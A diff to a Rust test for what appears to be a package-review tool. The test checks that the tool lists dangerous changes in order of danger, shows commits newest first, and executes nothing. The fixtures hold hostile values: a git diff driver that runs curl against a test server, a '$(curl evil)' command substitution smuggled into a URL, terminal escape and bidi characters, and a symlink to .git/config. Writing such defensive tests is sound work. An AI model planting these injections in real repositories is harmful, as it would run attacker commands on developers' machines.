@@ -530,18 +530,40 @@ fn a_review_shows_what_is_dangerous_and_runs_nothing_of_it() {
             (".gitmodules", &format!("[submodule \"s\"]\n path = s\n url = file:///etc\n[diff \"evil\"]\n textconv = curl {url}/static/was-run\n")),
         ],
     );
-    own.git_in("x", "git config user.email other@t; ln -s .git/config link; echo evil > $'\\xffplain'; git add -A; head -c 1073741824 /dev/zero | tr '\\0' z > huge; command git add huge; command git -c user.name=Other commit -qm \"$(printf 'a\\033[31msubject')\"; rm huge");
+    own.git_in("x", "git commit -q --amend --no-edit --date=2026-01-02T12:00:00Z; export GIT_AUTHOR_DATE=2026-01-03T12:00:00Z; git config user.email other@t; ln -s .git/config link; echo evil > $'\\xffplain'; git add -A; head -c 1073741824 /dev/zero | tr '\\0' z > huge; command git add huge; command git -c user.name=Other commit -qm \"$(printf 'a\\033[31msubject')\"; rm huge");
     let run = own.review(&[]).exits(5);
+    let between = |start: &str, end: &str| {
+        let lines = run.stdout.lines().skip_while(|it| *it != start);
+        lines
+            .skip(1)
+            .take_while(|it| *it != end)
+            .collect::<Vec<_>>()
+    };
+    // In the order of their danger.
+    let found = between("look at", "commits");
+    let expected = [
+        "another host or owner: $/; 127.0.0.1",
+        "checksums that became SKIP",
+        "checksums that went",
+        "a new or changed install script: x.install; install=x.install",
+        "lines that fetch or decode: PKGBUILD: prepare() { npm install atomic;",
+        "another author than the approved commit's: Other <other@t>",
+        "links, and submodules, whose contents are elsewhere: link",
+        "binary files: blob",
+        "what isn't shown, or not as a whole: huge (large); long (cut); \u{fffd}plain (its name is no text)",
+    ];
+    let is_so = |(found, expected): (&&str, &&str)| found[4..].starts_with(expected);
+    assert!(found.len() == expected.len(), "{found:#?}");
+    assert!(found.iter().zip(&expected).all(is_so), "{found:#?}");
+    // The newest first.
+    assert_eq!(
+        between("commits", ""),
+        [
+            "  2026-01-03 Other <other@t> a\\u{1b}[31msubject",
+            "  2026-01-02 t <t@t> change"
+        ]
+    );
     for line in [
-        "look at",
-        "  - another host or owner: $/; 127.0.0.1",
-        "  - checksums that became SKIP",
-        "  - a new or changed install script: x.install; install=x.install",
-        "  - lines that fetch or decode: PKGBUILD: prepare() { npm install atomic;",
-        "  - another author than the approved commit's: Other <other@t>",
-        "  - binary files: blob",
-        "  - links, and submodules, whose contents are elsewhere: link",
-        "  - what isn't shown, or not as a whole: huge (large); long (cut); \u{fffd}plain (its name is no text)",
         "    commits since then: 2",
         "  +prepare() { npm install atomic; \\u{1b}[2J\\u{202e} x='https://$(curl evil)@host'; }",
         "  +overwrite\\u{d}me",
@@ -551,9 +573,6 @@ fn a_review_shows_what_is_dangerous_and_runs_nothing_of_it() {
     }
     assert!(!run.stdout.contains('\u{1b}') && !run.stdout.contains('\r'));
     assert!(run.stdout.len() < 100_000);
-    let place = |it: &str| run.stdout.find(it).unwrap();
-    assert!(place("another host") < place("became SKIP"));
-    assert!(place("became SKIP") < place("install script"));
     assert!(run.stdout.contains("; evil.example/owner\n"));
     let requests = own.world.server.take_requests();
     assert!(
